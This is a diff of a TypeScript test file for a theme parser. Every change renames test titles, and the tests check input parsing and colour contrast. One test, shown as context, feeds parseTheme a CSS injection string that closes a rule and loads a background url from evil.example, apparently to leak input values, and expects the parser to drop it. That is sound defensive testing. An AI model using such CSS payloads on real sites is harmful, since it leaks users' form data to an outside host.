@@ -26,7 +26,7 @@ describe('theme', () => {
   });
   afterEach(() => probe.remove());
 
-  it('takes a colour in any notation, a length and font names', () => {
+  it('the theme takes a colour in any notation, a length and font names', () => {
     expect(
       parseTheme({ accent: '#0b6b4f', radius: '0.5rem', font: "'Open Sans', Arial" }, probe),
     ).to.deep.equal({
@@ -43,7 +43,7 @@ describe('theme', () => {
     }
   });
 
-  it('drops whatever else a page sends (T22)', () => {
+  it('the theme drops whatever else a page sends (T22)', () => {
     const font = 'x;} input{background:url(https://evil.example/?';
     expect(
       parseTheme({ accent: 'url(https://evil.example/)', radius: 'calc(1px)', font }, probe),
@@ -71,7 +71,7 @@ describe('theme', () => {
     expect(findRadius('0')).to.equal(0);
   });
 
-  it('can be read in any accent: on buttons, under the pointer too, and by lines on every surface of both palettes', () => {
+  it('the theme can be read in any accent: on buttons, under the pointer too, and by lines on every surface of both palettes', () => {
     const byte = fc.nat(255);
     fc.assert(
       fc.property(fc.tuple(byte, byte, byte), (bytes) => {
@@ -94,7 +94,7 @@ describe('theme', () => {
     );
   });
 
-  it('has palettes whose own text can be read and whose own boundaries have enough contrast', () => {
+  it('the theme has palettes whose own text can be read and whose own boundaries have enough contrast', () => {
     for (const { token } of PALETTES) {
       const at = (one: string, other: string) => contrast(token(one), token(other));
       for (const surface of ['surface', 'soft']) {
@@ -109,7 +109,7 @@ describe('theme', () => {
     }
   });
 
-  it('has a contrast of 3 : 1 to the last digit', () => {
+  it('the theme has a contrast of 3 : 1 to the last digit', () => {
     const part = fc.double({ min: 0, max: 1, noNaN: true });
     fc.assert(
       fc.property(fc.tuple(part, part, part), fc.constantFrom(WHITE, DARK), (colour, surface) => {
